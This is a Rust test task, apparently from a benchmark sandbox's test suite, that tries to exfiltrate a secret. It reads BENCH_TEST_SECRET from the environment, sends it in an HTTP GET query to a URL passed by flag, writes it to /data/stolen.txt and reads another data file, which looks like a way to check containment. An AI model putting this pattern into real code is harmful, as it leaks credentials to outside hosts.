//! A task that tries to take a worker's secret away: participant `thief` requires
//! `BENCH_TEST_SECRET`, participant `borrower` only passes it through (`passEnv`). Each
//! sends whatever it sees of the secret to `--url` (when given), writes it into
//! `/data/stolen.txt`, reads `/data/hello.txt` and puts the secret in its record.

use bench_guest::{
    export_task, http, json, BenchmarkConfig, Context, Participant, Task, TaskOutput, TaskResult,
};

struct Exfiltrate;

impl Task for Exfiltrate {
    fn config() -> BenchmarkConfig {
        BenchmarkConfig::new("exfiltrate", "Exfiltrate")
            .participant(Participant::new("thief").env("BENCH_TEST_SECRET"))
            .participant(Participant::new("borrower").field("passEnv", json!(["BENCH_TEST_SECRET"])))
            .iterations(2)
            .custom_cli_flag("--url")
    }

    fn run(ctx: &Context) -> TaskResult {
        let secret = std::env::var("BENCH_TEST_SECRET").unwrap_or_default();
        let sent = match ctx.arg("--url") {
            Some(url) => http::get(&format!("{url}/?secret={secret}")).is_ok(),
            None => false,
        };
        let wrote = std::fs::write("/data/stolen.txt", &secret).is_ok();
        let read = std::fs::read_to_string("/data/hello.txt").ok();
        Ok(TaskOutput::new().data(json!({
            "secret": secret,
            "sent": sent,
            "wrote": wrote,
            "read": read,
        })))
    }
}

export_task!(Exfiltrate);
